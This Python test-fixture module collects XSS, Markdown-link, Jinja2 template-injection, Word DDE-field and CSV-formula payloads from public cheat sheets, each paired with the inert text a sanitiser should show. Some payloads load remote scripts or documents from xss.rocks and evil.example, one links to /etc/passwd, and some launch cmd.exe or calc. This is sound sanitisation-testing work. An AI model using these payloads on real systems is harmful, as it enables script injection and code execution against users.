"""Active-content payloads from public cheat sheets, each with the text a reader must see.

Every payload goes into every text position a source has (tests/test_active_content.py) and
must come out as inert text in HTML and Word. `text` is what a plain text field (a title, a
table cell) shows: the payload itself. `markdown` is what a Markdown field shows when Markdown
changes the characters (an entity decoded, a backslash escape taken, `*…*` or `__…__` read as
emphasis, a link or image reduced to its text; a link markdown-it refuses stays as typed); None
means the payload itself. A payload is one line, without the control characters another test
covers.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Payload:
    """One payload: a short name (the test id), the text an author types, what readers see."""

    name: str
    text: str
    markdown: str | None = None

    @property
    def markdown_text(self) -> str:
        return self.text if self.markdown is None else self.markdown


PAYLOADS: tuple[Payload, ...] = (
    # --- OWASP XSS Filter Evasion Cheat Sheet -----------------------------------------------
    # https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
    Payload(
        "owasp-basic-script-src",
        "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    ),
    Payload(
        "owasp-polyglot",
        "javascript:/*--></title></style></textarea></script></xmp>"
        "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        markdown="javascript:/--></title></style></textarea></script></xmp>"
        "<svg/onload='+/\"/+/onmouseover=1/+/[/[]/+alert(1)//'>",
    ),
    Payload("owasp-img-javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
    Payload("owasp-case-insensitive", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    Payload(
        "owasp-decimal-char-refs",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
        "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        markdown="<IMG SRC=javascript:alert('XSS')>",
    ),
    Payload(
        "owasp-hex-char-refs",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
        "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    ),
    Payload(
        "owasp-encoded-tab",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        markdown="<IMG SRC=\"jav\tascript:alert('XSS');\">",
    ),
    Payload("owasp-embedded-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    Payload(
        "owasp-meta-chars",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        markdown="<IMG SRC=\" \ufffd  javascript:alert('XSS');\">",
    ),
    Payload("owasp-non-alpha", '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    Payload(
        "owasp-extraneous-brackets",
        '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
        markdown='<<SCRIPT>alert("XSS");//<</SCRIPT>',
    ),
    Payload("owasp-end-title", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    Payload("owasp-input-image", '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'),
    Payload("owasp-body-background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    Payload("owasp-body-onload", '<BODY ONLOAD=alert("XSS")>'),
    Payload(
        "owasp-style-list-image",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    ),
    Payload("owasp-svg-onload", "<svg/onload=alert('XSS')>"),
    Payload("owasp-link-stylesheet", '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'),
    Payload(
        "owasp-meta-refresh",
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    ),
    Payload(
        "owasp-meta-refresh-data",
        '<META HTTP-EQUIV="refresh" '
        'CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    ),
    Payload("owasp-iframe", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
    Payload("owasp-table-background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">"),
    Payload(
        "owasp-div-background-image",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    ),
    Payload("owasp-div-expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">"),
    Payload(
        "owasp-img-style-expression",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        markdown="<IMG STYLE=\"xss:expr/XSS/ession(alert('XSS'))\">",
    ),
    Payload("owasp-base-href", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    Payload(
        "owasp-object-scriptlet",
        '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    ),
    Payload(
        "owasp-embed-svg",
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9z'
        'dmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always">'
        "</EMBED>",
    ),
    Payload(
        "owasp-onerror-fromcharcode",
        '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    ),
    Payload("owasp-us-ascii", "¼script¾alert(¢XSS¢)¼/script¾"),
    # --- PortSwigger Cross-site scripting (XSS) cheat sheet ---------------------------------
    # https://portswigger.net/web-security/cross-site-scripting/cheat-sheet
    Payload("portswigger-img-onerror", "<img src=x onerror=alert(1)>"),
    Payload("portswigger-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    Payload("portswigger-details-ontoggle", "<details open ontoggle=alert(1)>"),
    Payload(
        "portswigger-formaction",
        "<form><button formaction=javascript:alert(1)>klik</button></form>",
    ),
    Payload("portswigger-iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    Payload(
        "portswigger-mxss-math",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    Payload(
        "portswigger-entity-javascript",
        '<a href="&#106;avascript:alert(1)">klik</a>',
        markdown='<a href="javascript:alert(1)">klik</a>',
    ),
    Payload("portswigger-autofocus", "<xss onfocus=alert(1) autofocus tabindex=1>"),
    Payload("portswigger-style-import", "<style>@import 'javascript:alert(1)';</style>"),
    Payload("portswigger-object-data", '<object data="javascript:alert(1)"></object>'),
    Payload("portswigger-embed-src", '<embed src="javascript:alert(1)">'),
    Payload("portswigger-base-href", '<base href="https://evil.example/">'),
    Payload(
        "portswigger-meta-csp",
        '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    ),
    Payload("portswigger-attribute-breakout", '"><script>alert(1)</script>'),
    Payload("portswigger-raw-anchor", '<a href="javascript:alert(1)">klik</a>'),
    # --- HTML5 Security Cheatsheet (html5sec.org) -------------------------------------------
    Payload(
        "html5sec-noscript-mxss",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ),
    Payload("html5sec-comment", "<!--<script>alert(1)</script>-->"),
    Payload("html5sec-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Payload("html5sec-vbscript", '<img src="vbscript:msgbox(1)">'),
    Payload(
        "html5sec-already-escaped",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        markdown="<script>alert(1)</script>",
    ),
    # --- Bare addresses (OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's cheat sheet) ----
    # For an attachment's link (bilag: link) most of all: only http, https and mailto link.
    Payload("url-javascript", "javascript:alert(1)"),
    Payload("url-mixed-case-space", " JaVaScRiPt:alert(1)"),
    Payload("url-encoded-tab", "jav&#x09;ascript:alert(1)", markdown="jav\tascript:alert(1)"),
    Payload("url-embedded-tab", "jav\tascript:alert(1)"),
    Payload("url-data-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    Payload("url-vbscript", "vbscript:msgbox(1)"),
    Payload("url-https-breakout", 'https://example.com/"><script>alert(1)</script>'),
    Payload("url-mailto-breakout", "mailto:a@example.com?subject='><img src=x onerror=alert(1)>"),
    # --- Markdown links and images (CommonMark spec §6.3/6.4, markdown-it's validateLink) ----
    # In a plain text field these are only text; in a Markdown field a link keeps its text
    # and loses a target that is not http, https or mailto.
    Payload("md-javascript-link", "[klik](javascript:alert(1))"),
    Payload("md-mixed-case-space", "[klik]( JaVaScRiPt:alert(1))"),
    Payload(
        "md-encoded-tab-link",
        "[klik](jav&#x09;ascript:alert(1))",
        markdown="klik",
    ),
    Payload("md-vbscript-link", "[klik](vbscript:msgbox(1))"),
    Payload(
        "md-data-link",
        "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    ),
    Payload("md-file-link", "[klik](file:///etc/passwd)"),
    Payload("md-protocol-relative-link", "[klik](//evil.example/x)", markdown="klik"),
    Payload("md-javascript-image", "![billede](javascript:alert(1))"),
    Payload(
        "md-data-svg-image",
        "![billede](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    ),
    Payload(
        "md-data-gif-image",
        "![billede](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
        markdown="billede",
    ),
    Payload("md-javascript-autolink", "<javascript:alert(1)>"),
    Payload(
        "md-href-breakout",
        '[klik](<https://example.com/" onmouseover="alert(1)>)',
        markdown="klik",
    ),
    Payload(
        "md-title-breakout",
        '[klik](https://example.com "\\" onmouseover=\\"alert(1)")',
        markdown="klik",
    ),
    # --- Jinja2 server-side template injection (PayloadsAllTheThings, Jinja2 SSTI) ----------
    # https://github.com/swisskyrepo/PayloadsAllTheThings/tree/master/Server%20Side%20Template%20Injection
    Payload("ssti-arithmetic", "{{ 7*7 }}"),
    Payload("ssti-for-loop", "{% for x in range(3) %}{{ x }}{% endfor %}"),
    Payload(
        "ssti-globals",
        "{{ self.__init__.__globals__.__builtins__ }}",
        markdown="{{ self.init.globals.builtins }}",
    ),
    Payload(
        "ssti-subclasses",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        markdown="{{ ''.class.mro[1].subclasses() }}",
    ),
    Payload("ssti-comment", "{# skjult #}"),
    Payload("ssti-other-engines", "${7*7} #{7*7} <%= 7*7 %>", markdown="${77} #{77} <%= 7*7 %>"),
    # --- Word fields (SensePost, "Macro-less Code Exec in MSWord", 2017) --------------------
    # https://sensepost.com/blog/2017/macro-less-code-exec-in-msword/
    Payload(
        "word-ddeauto",
        '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }',
        markdown='{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" }',
    ),
    Payload("word-includetext", '{ INCLUDETEXT "http://evil.example/x.docx" }'),
    Payload("word-hyperlink-field", '{ HYPERLINK "javascript:alert(1)" }'),
    Payload("csv-formula", "=cmd|' /C calc'!A0"),
)
